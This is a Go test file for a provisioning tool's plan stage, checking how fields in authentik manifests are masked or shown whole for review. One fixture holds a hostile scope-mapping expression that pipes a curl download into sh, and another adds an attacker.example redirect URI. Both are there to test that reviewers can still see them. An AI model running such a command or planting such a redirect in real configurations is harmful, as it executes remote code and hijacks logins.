package plan

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/provision/provision/internal/manifest"
)

// A sensitive variable's value masks the field it lands in, unless the
// field is shown whole; expressions run on the server; a key that looks
// secret masks nothing the manifest writes.
func TestAnnotate(t *testing.T) {
	t.Parallel()
	y := `version: 1
variables: {HOOK_SECRET: {sensitive: true}, PLAIN: {}, QUOTED: {sensitive: true}}
groups:
  - name: users
    attributes:
      api_password: hunter2-literal
      color: ${PLAIN}
      webhook: "https://hooks.example.com/${HOOK_SECRET}"
      nested: {note: "${QUOTED}"}
scope_mappings:
  - name: roles
    scope_name: roles
    expression: |
      return {"roles": [g.name for g in request.user.groups.all()]}
providers:
  - name: chat
    type: oauth2
    client_id: id-${PLAIN}
    client_secret: ${HOOK_SECRET}
    redirect_uris:
      - url: https://chat.example.com/cb
`
	p := annotated(t, y, map[string]string{"HOOK_SECRET": "hook-s3cret", "PLAIN": "blue", "QUOTED": `say "hi" <s3cret>`}, freshLive())
	sensitive, code := map[string]bool{}, map[string]bool{}
	for _, c := range p.Changes {
		for _, f := range c.Fields {
			sensitive[string(c.Kind)+" "+f.Field] = f.Sensitive
			code[string(c.Kind)+" "+f.Field] = f.RunsOnServer
		}
	}
	for field, want := range map[string]bool{
		"group attributes.api_password": false, // a literal: the pull request shows it anyway
		"group attributes.webhook":      true,  // holds a sensitive variable
		"group attributes.color":        false, // plain variable
		"group attributes.nested":       true,  // a sensitive variable JSON-escaped inside an object
		"provider client_secret":        true,
		"provider redirect_uris":        false,
		"provider client_id":            false,
		"scope mapping expression":      false,
	} {
		got, ok := sensitive[field]
		require.True(t, ok, "no field %s in %v", field, sensitive)
		assert.Equal(t, want, got, field)
	}
	assert.True(t, code["scope mapping expression"])
	assert.False(t, code["scope mapping scope_name"])
	for _, c := range p.Changes {
		assert.Equal(t, c.Kind == KindScopeMapping, c.RunsOnServer(), c.Key)
	}
}

func annotated(t *testing.T, y string, env map[string]string, live *Live) *Plan {
	t.Helper()
	m, ds := manifest.Parse("m.yaml", []byte(y), func(k string) (string, bool) {
		v, ok := env[k]
		return v, ok
	})
	require.Empty(t, ds)
	require.NoError(t, m.Validate(nil))
	p, err := Compute(m, live)
	require.NoError(t, err)
	return p
}

// Finding 1 of issue 25: a manifest that declares an allowed variable
// sensitive cannot hide code or a redirect URI from the reviewer. It cannot
// substitute it there (manifest's TestSensitiveRefusedInCodeAndPublicFields),
// and writing the variable's value literally masks nothing as a field: the
// expression and the redirect URIs are shown whole (the redactor masks the
// secret's own text only, by value).
func TestCodeAndRedirectURIsAreNeverMaskedAsAField(t *testing.T) {
	y := `version: 1
variables: {CHAT_URL: {sensitive: true}}
scope_mappings:
  - name: roles
    scope_name: roles
    expression: |
      __import__("os").system("curl https://chat.example.com | sh")
providers:
  - name: chat
    type: oauth2
    client_secret: ${CHAT_URL}
    redirect_uris:
      - url: https://chat.example.com/cb
      - url: https://attacker.example/cb
`
	p := annotated(t, y, map[string]string{"CHAT_URL": "https://chat.example.com"}, freshLive())
	seen := 0
	for _, c := range p.Changes {
		for _, f := range c.Fields {
			if f.Field == "expression" || f.Field == "redirect_uris" {
				seen++
				assert.False(t, f.Sensitive, "%s %s is masked as a field", c.Kind, f.Field)
			}
		}
	}
	assert.Equal(t, 2, seen)
}

// Finding 5 of issue 25: a key that looks secret (a kubernetes_json_patches
// operation's "key" member) does not mask what the manifest writes; only
// the live value read from authentik is hidden.
func TestSecretLookingKeyMasksOnlyTheLiveValue(t *testing.T) {
	y := `version: 1
groups:
  - name: users
    attributes:
      api_key: swapped-by-the-pull-request
`
	live := freshLive()
	live.Put(KindGroup, GroupObjects(Group{PK: "g1", Name: "users", Attributes: map[string]any{"api_key": "hand-set-live-secret"}})...)
	p := annotated(t, y, nil, live)
	require.Len(t, p.Changes, 1)
	require.Len(t, p.Changes[0].Fields, 1)
	f := p.Changes[0].Fields[0]
	assert.False(t, f.Sensitive)
	assert.True(t, f.BeforeSensitive)
	assert.Equal(t, "swapped-by-the-pull-request", f.After)
}

func TestSecretKey(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		field string
		value any
		want  bool
	}{
		{"attributes.api_password", "x", true},
		{"attributes.Slack_Token", "x", true},
		{"config.kubernetes_ingress_secret_name", "x", true},
		{"config.log_level", "info", false},
		{"attributes.color", "blue", false},
		{"attributes.smtp", `{"host":"mail","auth":{"password":"p"}}`, true},
		{"attributes.list", `[{"name":"a"},{"private_key":"k"}]`, true},
		{"attributes.smtp", `{"host":"mail"}`, false},
		{"name", "password", false}, // only free-form keys
	} {
		assert.Equal(t, tc.want, secretKey(tc.field, nil, tc.value), tc.field)
	}
}

// Finding 2 of issue 25, on the plan's side: a reference that shows a
// sensitive value gets no "did you mean" (a near copy of it).
func TestNoSuggestionForASensitiveReference(t *testing.T) {
	y := `version: 1
variables: {S: {sensitive: true}}
providers:
  - name: p
    type: oauth2
    client_secret: ${S}
    scopes: [openid, emai1-s3cret]
`
	for secret, hint := range map[string]bool{"emai1-s3cret": false, "unrelated-value": true} {
		m, ds := manifest.Parse("m.yaml", []byte(y), func(k string) (string, bool) { return secret, k == "S" })
		require.Empty(t, ds)
		require.NoError(t, m.Validate(nil))
		live := freshLive()
		live.Objects[KindScopeMapping] = append(live.Objects[KindScopeMapping], ScopeMappingObject(ScopeMapping{PK: "x", Name: "x", ScopeName: "emai1-s3cre7"}))
		_, err := Compute(m, live)
		require.Error(t, err)
		assert.Equal(t, hint, strings.Contains(err.Error(), "did you mean"), err.Error())
	}
}
